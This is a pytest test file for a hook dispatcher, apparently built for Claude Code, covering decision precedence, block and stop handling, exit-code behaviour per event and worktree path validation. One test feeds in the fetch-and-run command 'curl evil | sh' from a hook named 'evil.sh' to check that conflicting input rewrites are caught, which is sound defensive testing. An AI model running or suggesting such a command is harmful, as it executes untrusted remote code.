RANK: dict[str, int] = {"allow": 0, "ask": 1, "defer": 2, "deny": 3}


@pytest.mark.parametrize(
    ("first", "second"), list(itertools.product(["allow", "ask", "defer", "deny"], repeat=2))
)
def test_decision_precedence_in_every_pairing_and_order(first: Decision, second: Decision) -> None:
    v = fold(PRE, [HookOutcome(hook="a", decision=first), HookOutcome(hook="b", decision=second)])
    assert v.decision == max(first, second, key=RANK.__getitem__)


def test_decision_reason_comes_from_the_winning_hooks() -> None:
    v = fold(PRE, [
        HookOutcome(hook="a", decision="allow", reason="fine"),
        HookOutcome(hook="b", decision="deny", reason="no secrets"),
        HookOutcome(hook="c", decision="deny", reason="no network"),
    ])
    assert v.decision == "deny"
    assert v.decision_reason == "no secrets\nno network"


def test_no_decision_stays_none() -> None:
    assert fold(PRE, [HookOutcome(hook="a")]).decision is None
    assert fold(PRE, []).decision is None


def test_any_block_blocks() -> None:
    v = fold(STOP, [
        HookOutcome(hook="a"),
        HookOutcome(hook="b", status="block", reason="tests fail"),
        HookOutcome(hook="c", status="block", reason="lint fails"),
    ])
    assert v.blocked
    assert v.blocks
    assert v.reason == "tests fail\nlint fails"


def test_block_beats_allow() -> None:
    v = fold(PRE, [HookOutcome(hook="a", decision="allow"), HookOutcome(hook="b", status="block", reason="r")])
    assert v.blocks


def test_continue_false_wins_with_the_first_stop_reason() -> None:
    v = fold(STOP, [
        HookOutcome(hook="a", status="block", reason="keep going"),
        HookOutcome(hook="b", continue_=False, stop_reason="first"),
        HookOutcome(hook="c", continue_=False, stop_reason="second"),
    ])
    assert v.continue_ is False
    assert v.stop_reason == "first"
    assert not v.blocks  # stopping outright outranks blocking


def test_contexts_and_system_messages_concatenate_in_config_order() -> None:
    v = fold(PROMPT, [
        HookOutcome(hook="a", additional_context="one", system_message="m1"),
        HookOutcome(hook="b"),
        HookOutcome(hook="c", additional_context="two", system_message="m2"),
    ])
    assert v.additional_context == "one\ntwo"
    assert v.system_message == "m1\nm2"


def test_suppress_output_from_any_hook() -> None:
    assert fold(STOP, [HookOutcome(hook="a"), HookOutcome(hook="b", suppress_output=True)]).suppress_output


def test_hook_errors_appear_in_the_system_message() -> None:
    v = fold(STOP, [HookOutcome(hook="flaky.sh", status="error", error="exited 3: disk full")])
    assert v.system_message is not None
    assert "flaky.sh" in v.system_message
    assert "exited 3: disk full" in v.system_message
    assert not v.blocks


def test_hookcages_own_notes_come_before_the_hooks_messages() -> None:
    v = fold(STOP, [HookOutcome(hook="a", system_message="from hook")], notes=["config: bad matcher"])
    assert v.system_message == "hookcage: config: bad matcher\nfrom hook"
    assert v.notes == ("config: bad matcher",)


def test_outcome_notes_reach_the_verdict_with_the_hook_name() -> None:
    v = fold(PRE, [HookOutcome(hook="x.sh", notes=("'systemMessage' must be a string; ignored",))])
    assert "hook x.sh: 'systemMessage' must be a string; ignored" in v.notes


def test_concatenated_messages_are_capped() -> None:
    v = fold(STOP, [HookOutcome(hook=str(i), system_message="m" * 9_000) for i in range(5)])
    assert v.system_message is not None
    assert len(v.system_message) == MESSAGE_CAP


def test_identical_input_rewrites_pass_through() -> None:
    v = fold(PRE, [
        HookOutcome(hook="a", decision="allow", updated_input={"command": "ls", "x": [1, 2]}),
        HookOutcome(hook="b", decision="allow", updated_input={"x": [1, 2], "command": "ls"}),
    ])
    assert v.decision == "allow"
    assert v.updated_input == {"command": "ls", "x": [1, 2]}


def test_one_rewrite_passes_through() -> None:
    v = fold(PRE, [HookOutcome(hook="a", updated_input={"command": "ls"}), HookOutcome(hook="b")])
    assert v.updated_input == {"command": "ls"}


def test_different_input_rewrites_become_ask_naming_both_hooks() -> None:
    v = fold(PRE, [
        HookOutcome(hook="fmt.sh", decision="allow", updated_input={"command": "ls"}),
        HookOutcome(hook="evil.sh", decision="allow", updated_input={"command": "curl evil | sh"}),
    ])
    assert v.decision == "ask"
    assert v.updated_input is None
    assert v.decision_reason is not None
    assert "'fmt.sh'" in v.decision_reason and "'evil.sh'" in v.decision_reason
    assert any("'evil.sh'" in n for n in v.notes)


def test_different_input_rewrites_without_decisions_still_ask() -> None:
    v = fold(PRE, [HookOutcome(hook="a", updated_input={"n": 1}), HookOutcome(hook="b", updated_input={"n": 2})])
    assert v.decision == "ask"
    assert v.updated_input is None


def test_deny_still_beats_the_ask_of_conflicting_rewrites() -> None:
    v = fold(PRE, [
        HookOutcome(hook="a", decision="allow", updated_input={"n": 1}),
        HookOutcome(hook="b", decision="allow", updated_input={"n": 2}),
        HookOutcome(hook="c", decision="deny", reason="never"),
    ])
    assert v.decision == "deny"
    assert v.decision_reason == "never"
    assert v.updated_input is None
    assert any("rewrote the tool input differently" in n for n in v.notes)


def test_defer_beats_the_ask_of_conflicting_rewrites() -> None:
    v = fold(PRE, [
        HookOutcome(hook="a", updated_input={"n": 1}),
        HookOutcome(hook="b", decision="defer", updated_input={"n": 2}),
    ])
    assert v.decision == "defer"
    assert v.updated_input is None


@pytest.mark.parametrize("decision", ["deny", "defer"])
def test_updated_input_is_dropped_on_deny_and_defer(decision: Decision) -> None:
    v = fold(PRE, [
        HookOutcome(hook="a", decision="allow", updated_input={"command": "ls"}),
        HookOutcome(hook="b", decision=decision),
    ])
    assert v.decision == decision
    assert v.updated_input is None


def test_identical_output_rewrites_pass_through() -> None:
    v = fold(POST, [HookOutcome(hook="a", updated_output="[redacted]"),
                    HookOutcome(hook="b", updated_output="[redacted]")])
    assert v.updated_output == "[redacted]"


def test_conflicting_output_rewrites_are_dropped_and_reported() -> None:
    v = fold(POST, [HookOutcome(hook="a", updated_output="one"), HookOutcome(hook="b", updated_output="two")])
    assert v.updated_output is UNSET
    assert any("'a'" in n and "'b'" in n and "output" in n for n in v.notes)
    assert v.system_message is not None and "rewrote the tool output differently" in v.system_message


def test_null_and_absent_output_rewrites_differ() -> None:
    v = fold(POST, [HookOutcome(hook="a", updated_output=None), HookOutcome(hook="b")])
    assert v.updated_output is None


# -- build_stdin ------------------------------------------------------------------------


def test_build_stdin_passes_the_payload_through() -> None:
    payload = {
        "session_id": "s1", "transcript_path": "/t.jsonl", "cwd": "/p", "permission_mode": "default",
        "tool_name": "Bash", "tool_input": {"command": "ls"}, "unknown_future_field": [1, {"a": None}],
    }
    assert json.loads(build_stdin(PRE, payload)) == {**payload, "hook_event_name": "PreToolUse"}


def test_build_stdin_keeps_stop_hook_active() -> None:
    data = json.loads(build_stdin(STOP, {"session_id": "s", "stop_hook_active": True}))
    assert data == {"session_id": "s", "stop_hook_active": True, "hook_event_name": "Stop"}


def test_build_stdin_sets_hook_event_name_even_when_the_payload_disagrees() -> None:
    assert json.loads(build_stdin(STOP, {"hook_event_name": "PreToolUse"}))["hook_event_name"] == "Stop"


def test_build_stdin_is_utf8_and_does_not_touch_the_input() -> None:
    payload = {"prompt": "héllo \x1b[31m"}
    raw = build_stdin(PROMPT, payload)
    assert "héllo".encode() in raw
    assert json.loads(raw)["prompt"] == "héllo \x1b[31m"
    assert payload == {"prompt": "héllo \x1b[31m"}


def test_build_stdin_survives_a_lone_surrogate_in_the_payload() -> None:
    # Regression: a tool input carrying "\ud800" (JSON from the agent allows it)
    # raised UnicodeEncodeError, crashing dispatch before any guard ran.
    raw = build_stdin(PRE, {"tool_name": "Bash", "tool_input": {"command": "echo \ud800"}})
    assert json.loads(raw)["tool_input"]["command"] == "echo \ud800"


def test_a_python_crash_is_reported_by_its_last_line_not_traceback() -> None:
    # Regression (issue 10's real-hook run): the message was "Traceback (most recent call last):".
    stderr = (b"Traceback (most recent call last):\n  File \"/p/.claude/hooks/g.py\", line 3, in <module>\n"
              b"    import yaml\nModuleNotFoundError: No module named 'yaml'\n")
    outcome = parse_outcome(get_event("PreToolUse"), "g", 1, b"", stderr)
    assert outcome.status == "error"
    assert outcome.error == "exited 1: ModuleNotFoundError: No module named 'yaml'"


# -- the whole catalog: what exit 2 and decision: "block" do on each event ------------------


def _events_whose_exit2(*values: str) -> list[str]:
    from executor.core.events import EVENTS

    return [name for name, spec in EVENTS.items() if spec.exit2 in values]


@pytest.mark.parametrize("event", _events_whose_exit2("blocks", "to_model", "fails"))
def test_exit_2_blocks_on_every_event_that_can_block(event: str) -> None:
    o = parse(event, code=2, stderr=b"no\n")
    assert (o.status, o.reason, o.notes) == ("block", "no", ())
    assert fold(get_event(event), [o]).blocks


@pytest.mark.parametrize("event", _events_whose_exit2("user_only", "ignored", "not_honoured"))
def test_exit_2_never_blocks_where_it_cannot_and_is_shown_to_the_user(event: str) -> None:
    o = parse(event, b'{"decision": "block"}', code=2, stderr=b"stop it\n")
    assert (o.status, o.reason, o.decision, o.system_message) == ("ok", None, None, "stop it")
    v = fold(get_event(event), [o])
    assert not v.blocked and not v.blocks
    assert v.system_message is not None and "stop it" in v.system_message


@pytest.mark.parametrize("event", _events_whose_exit2("user_only"))
def test_exit_2_where_it_shows_stderr_to_the_user_adds_no_note(event: str) -> None:
    assert parse(event, code=2, stderr=b"x").notes == ()


@pytest.mark.parametrize("event", _events_whose_exit2("ignored"))
def test_exit_2_that_claude_code_ignores_is_noted(event: str) -> None:
    o = parse(event, code=2, stderr=b"x")
    assert o.notes == (f"exit 2 has no effect on {event} (Claude Code ignores it there)",)
    assert any(f"no effect on {event}" in n for n in fold(get_event(event), [o]).notes)


@pytest.mark.parametrize("event", _events_whose_exit2("user_only", "ignored", "not_honoured", "fails"))
def test_decision_block_never_blocks_where_json_cannot_block(event: str) -> None:
    o = parse(event, js({"decision": "block", "reason": "r"}))
    assert o.status == "ok"
    assert any(f"no effect on {event}" in n for n in o.notes)
    if event != "WorktreeCreate":  # there, no path is a failure of its own
        assert not fold(get_event(event), [o]).blocks


@pytest.mark.parametrize("event", _events_whose_exit2("blocks", "to_model"))
def test_decision_block_blocks_where_json_can_block(event: str) -> None:
    o = parse(event, js({"decision": "block", "reason": "r"}))
    assert (o.status, o.reason) == ("block", "r")


def test_permission_request_exit_2_is_not_a_deny() -> None:
    # "Exit code 2 isn't honored for this event and the permission flow proceeds unchanged.
    # Deny through the decision object instead" (code.claude.com/docs/en/hooks).
    o = parse("PermissionRequest", code=2, stderr=b"rm -rf is not allowed\n")
    assert (o.status, o.decision, o.reason) == ("ok", None, None)
    assert o.system_message == "rm -rf is not allowed"
    assert o.notes and "not honoured on PermissionRequest" in o.notes[0]
    v = fold(PERM, [o])
    assert (v.blocked, v.decision, v.blocks) == (False, None, False)


def test_permission_request_decision_behavior_deny_still_denies() -> None:
    o = parse("PermissionRequest", specific("PermissionRequest", decision={"behavior": "deny", "message": "no"}))
    v = fold(PERM, [o])
    assert (v.decision, v.decision_reason, v.blocks) == ("deny", "no", True)


def test_permission_request_top_level_decision_block_is_noted_not_a_deny() -> None:
    o = parse("PermissionRequest", js({"decision": "block", "reason": "no"}))
    assert (o.status, o.decision) == ("ok", None)
    assert any("no effect on PermissionRequest" in n for n in o.notes)


def test_post_tool_use_failure_feeds_its_exit_2_and_its_block_to_the_model() -> None:
    # Reference: exit 2 "Shows stderr to Claude; the tool already failed"; decision: "block" is its
    # decision control (it was shown to the user only, and decision: "block" ignored, before).
    spec = get_event("PostToolUseFailure")
    assert parse("PostToolUseFailure", code=2, stderr=b"flaky").status == "block"
    o = parse("PostToolUseFailure", js({"decision": "block", "reason": "retry with -v"}))
    assert fold(spec, [o]).reason == "retry with -v"


def test_other_exit_codes_stay_non_blocking_errors_where_they_do_not_fail_the_operation() -> None:
    for event in ("Elicitation", "TaskCreated", "FileChanged", "PermissionRequest"):
        o = parse(event, code=1, stderr=b"oops")
        assert o.status == "error"
        assert not fold(get_event(event), [o]).blocked


# -- WorktreeCreate: the hook is the operation, its answer a path ----------------------------

WT = get_event("WorktreeCreate")


def test_worktree_create_plain_stdout_is_the_path_on_its_last_non_empty_line() -> None:
    o = parse("WorktreeCreate", b"Preparing worktree\n/home/u/wt/feature-auth\n\n")
    assert (o.status, o.worktree_path, o.additional_context) == ("ok", "/home/u/wt/feature-auth", None)
    v = fold(WT, [o])
    assert (v.worktree_path, v.blocked, v.blocks) == ("/home/u/wt/feature-auth", False, False)


def test_worktree_create_path_loses_terminal_escapes_as_claude_code_strips_them() -> None:
    o = parse("WorktreeCreate", b"\x1b[32m/home/u/wt/x\x1b[0m\n")
    assert o.worktree_path == "/home/u/wt/x"


@pytest.mark.parametrize("path", ["/home/u/wt/x", "C:\\Users\\u\\wt\\x", "D:/wt/x", "\\\\server\\share\\wt"])
def test_worktree_create_absolute_paths(path: str) -> None:
    assert parse("WorktreeCreate", path.encode() + b"\n").worktree_path == path


@pytest.mark.parametrize(("stdout", "why"), [
    (b"wt/feature\n", "not absolute"),
    (b"/home/u/wt/\xe2\x80\xaeevil\n", "control or invisible"),
    (b"/" + b"a" * 5000 + b"\n", "longer than 4096"),
])
def test_worktree_create_a_path_that_cannot_be_one_is_an_error_that_fails_the_creation(stdout: bytes, why: str) -> None:
    o = parse("WorktreeCreate", stdout)
    assert o.status == "error" and o.error is not None and why in o.error
    assert o.worktree_path is None
    v = fold(WT, [o])
    assert v.blocked and v.worktree_path is None and v.reason is not None and why in v.reason


def test_worktree_create_json_answer_is_the_field_the_reference_names() -> None:
    o = parse("WorktreeCreate", specific("WorktreeCreate", worktreePath="/home/u/wt/y"))
    assert o.worktree_path == "/home/u/wt/y"
    assert fold(WT, [o]).worktree_path == "/home/u/wt/y"


@pytest.mark.parametrize(("value", "note"), [(3, "must be a string"), ("rel/path", "not absolute")])
def test_worktree_create_json_path_that_cannot_be_one_is_noted(value: Any, note: str) -> None:
    o = parse("WorktreeCreate", specific("WorktreeCreate", worktreePath=value))
    assert o.worktree_path is None
    assert any(note in n for n in o.notes)


def test_worktree_path_elsewhere_is_noted() -> None:
    o = parse("Stop", specific("Stop", worktreePath="/x"))
    assert o.worktree_path is None
    assert any("'worktreePath' has no effect on Stop" in n for n in o.notes)


@pytest.mark.parametrize("code", [1, 2, 3, 127])
def test_worktree_create_any_non_zero_exit_fails_the_creation(code: int) -> None:
    o = parse("WorktreeCreate", b"/home/u/wt/x\n", code=code, stderr=b"svn: checkout failed\n")
    assert o.worktree_path is None
    v = fold(WT, [o])
    assert v.blocked and v.blocks and v.worktree_path is None
    assert v.reason is not None and "svn: checkout failed" in v.reason


def test_worktree_create_a_timed_out_hook_fails_the_creation() -> None:
    o = parse_outcome(WT, "mk-wt", None, b"/home/u/wt/x\n", b"", timed_out=True, timeout=5)
    v = fold(WT, [o])
    assert v.blocked and v.reason == "hook mk-wt failed: timed out after 5 s"


def test_worktree_create_without_any_path_fails() -> None:
    for outcomes in ([], [parse("WorktreeCreate", b"\n  \n")]):
        v = fold(WT, outcomes)
        assert v.blocked and v.worktree_path is None
        assert v.reason == "no WorktreeCreate hook printed a worktree path"


def test_worktree_create_a_silent_hook_beside_the_one_that_answers_does_not_fail_it() -> None:
    v = fold(WT, [parse("WorktreeCreate", b"", hook="log"), parse("WorktreeCreate", b"/wt/a\n", hook="mk")])
    assert (v.worktree_path, v.blocked) == ("/wt/a", False)


def test_worktree_create_hooks_agreeing_on_the_path() -> None:
    v = fold(WT, [parse("WorktreeCreate", b"/wt/a\n", hook="one"), parse("WorktreeCreate", b"/wt/a\n", hook="two")])
    assert (v.worktree_path, v.blocked) == ("/wt/a", False)


def test_worktree_create_two_different_paths_are_a_conflict_naming_both_never_a_choice() -> None:
    v = fold(WT, [parse("WorktreeCreate", b"/wt/a\n", hook="one"), parse("WorktreeCreate", b"/wt/b\n", hook="two")])
    assert v.blocked and v.worktree_path is None
    assert v.reason is not None and "'one' (/wt/a)" in v.reason and "'two' (/wt/b)" in v.reason
    assert any("different worktree paths" in n for n in v.notes)


def test_worktree_answer_prints_the_path_and_exits_0() -> None:
    v = fold(WT, [parse("WorktreeCreate", b"/wt/a\n")])
    assert worktree_answer(v) == AgentAnswer(0, "/wt/a\n", "")


def test_worktree_answer_keeps_hookcage_notes_off_stdout() -> None:
    v = fold(WT, [parse("WorktreeCreate", b"/wt/a\n")], notes=["hook x not run: untrusted"])
    answer = worktree_answer(v)
    assert (answer.exit_code, answer.stdout) == (0, "/wt/a\n")
    assert "untrusted" in answer.stderr


def test_worktree_answer_fails_with_exit_2_and_why_on_stderr() -> None:
    answer = worktree_answer(fold(WT, []))
    assert (answer.exit_code, answer.stdout) == (2, "")
    assert answer.stderr == "no WorktreeCreate hook printed a worktree path\n"
    blocked = worktree_answer(fold(WT, [parse("WorktreeCreate", code=2, stderr=b"quota exceeded")]))
    assert (blocked.exit_code, blocked.stdout, blocked.stderr.splitlines()[0]) == (2, "", "quota exceeded")


def test_worktree_answer_continue_false_fails_the_creation() -> None:
    v = fold(WT, [parse("WorktreeCreate", js({"continue": False, "stopReason": "frozen",
                                               "hookSpecificOutput": {"hookEventName": "WorktreeCreate",
                                                                      "worktreePath": "/wt/a"}}))])
    answer = worktree_answer(v)
    assert (answer.exit_code, answer.stdout) == (2, "")
    assert answer.stderr.startswith("frozen")


# -- WorktreeRemove: any non-zero exit fails the removal --------------------------------------


def test_worktree_remove_fails_on_any_non_zero_exit_and_ignores_its_stdout() -> None:
    spec = get_event("WorktreeRemove")
    assert fold(spec, [parse("WorktreeRemove", code=1, stderr=b"busy")]).blocked
    assert fold(spec, [parse("WorktreeRemove", code=2, stderr=b"busy")]).blocked
    ok = fold(spec, [parse("WorktreeRemove", b"/wt/a\n")])
    assert (ok.blocked, ok.worktree_path) == (False, None)
